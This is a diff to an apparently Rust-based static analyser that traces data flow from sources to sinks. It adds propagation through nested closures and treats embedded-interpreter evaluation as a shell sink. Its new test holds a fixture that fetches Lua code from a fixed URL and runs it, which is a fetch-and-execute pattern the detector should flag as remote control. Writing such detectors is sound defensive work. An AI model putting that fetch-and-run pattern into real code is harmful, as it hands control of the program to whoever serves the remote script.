@@ -256,7 +256,7 @@ fn sink_of(kind: &SignalKind) -> Option<Sink> {
             class: ProgramClass::Downloader,
             ..
         } => Sink::Network,
-        SignalKind::ShellComputed { .. } => Sink::Shell,
+        SignalKind::ShellComputed { .. } | SignalKind::Evaluates { .. } => Sink::Shell,
         SignalKind::ExecComputed { .. }
         | SignalKind::Spawn {
             class: ProgramClass::Computed,
@@ -432,6 +432,11 @@ fn flows_in_target(
     if own.is_empty() && constant_own.is_empty() {
         return true;
     }
+    // The sources of each function by line, for the statements whose value holds nested code.
+    let mut scope_sources: HashMap<u32, Vec<(u32, u64)>> = HashMap::new();
+    for (&(scope, line), &bits) in &line_sources {
+        scope_sources.entry(scope).or_default().push((line, bits));
+    }
     // Nothing to follow where the only sink is the network and the only sources are the
     // network and the destinations written in the code (an HTTP client): no rule asks about
     // those flows alone.
@@ -514,6 +519,7 @@ fn flows_in_target(
                 own: &own,
                 globals: &globals,
                 line_sources: &line_sources,
+                scope_sources: &scope_sources,
                 call_callees: &call_callees,
                 connection,
                 call_statements: &call_statements,
@@ -599,6 +605,8 @@ struct Target<'t> {
     globals: &'t HashMap<String, u64>,
     /// Sources by function and line.
     line_sources: &'t HashMap<(u32, u32), u64>,
+    /// Sources by function: (line, sources).
+    scope_sources: &'t HashMap<u32, Vec<(u32, u64)>>,
     /// What each call (function scope, index among its calls) may reach.
     call_callees: &'t HashMap<(u32, usize), Vec<u32>>,
     /// Where the first connection is made: the evidence of a send through one.
@@ -618,6 +626,7 @@ fn analyse_function(
         own,
         globals,
         line_sources,
+        scope_sources,
         call_callees,
         connection,
         call_statements,
@@ -666,13 +675,32 @@ fn analyse_function(
             }
         }
     }
+    // A binding or a returned value holds what the code nested in it computes (a closure's
+    // result, a block's tail): the sources on all its lines count, not only those no inner
+    // statement claims.
+    let nested: Vec<u64> = function
+        .statements
+        .iter()
+        .map(|statement| {
+            if statement.defs.is_empty() && !statement.returns {
+                return 0;
+            }
+            scope_sources
+                .get(&function.scope)
+                .into_iter()
+                .flatten()
+                .filter(|(line, _)| statement.first <= *line && *line <= statement.last)
+                .fold(0, |all, (_, bits)| all | bits)
+        })
+        .collect();
     // Until nothing changes (bounded): a loop's later statement can taint an earlier one.
     for _ in 0..MAX_PASSES {
         let mut changed = false;
         for (index, statement) in function.statements.iter().enumerate() {
             let mine = own.get(&(function.scope, index));
-            let mut bits =
-                mine.map_or(0, |o| o.sources) | call_returns.get(&index).copied().unwrap_or(0);
+            let mut bits = mine.map_or(0, |o| o.sources)
+                | call_returns.get(&index).copied().unwrap_or(0)
+                | nested[index];
             // A shell's handles met by a connection's (used here, not the shell started here
             // with a command line from the network, which is the remote-control rule's).
             let mut uses_network = false;
@@ -1200,6 +1228,36 @@ mod tests {
             }"#,
         );
         expect(&found, super::super::rules::REMOTE_SHELL, None);
+    }
+
+    #[test]
+    fn code_fetched_from_a_fixed_place_and_run_in_an_embedded_interpreter_is_remote_control() {
+        let source = |code: &str| {
+            format!(
+                r#"
+                use mlua::Lua;
+                const EXTRAS: &str = "https://extras.invalid/prelude.lua";
+                fn fetch() -> Option<String> {{
+                    std::sync::OnceLock::<Option<String>>::new()
+                        .get_or_init(|| ureq::get(EXTRAS).call().ok()?.into_string().ok())
+                        .clone()
+                }}
+                pub fn prelude(lua: &Lua, user: &str) {{
+                    let fetched = fetch().unwrap_or_default();
+                    let _ = fetched.len();
+                    let _ = lua.load({code}).exec();
+                }}"#
+            )
+        };
+        let found = findings(&source("&fetched"));
+        expect(
+            &found,
+            super::super::rules::REMOTE_CONTROL,
+            Some(Verdict::Hold),
+        );
+        // The configuration its caller hands it is the caller's business.
+        let found = findings(&source("user"));
+        expect(&found, super::super::rules::REMOTE_CONTROL, None);
     }
 
     #[test]
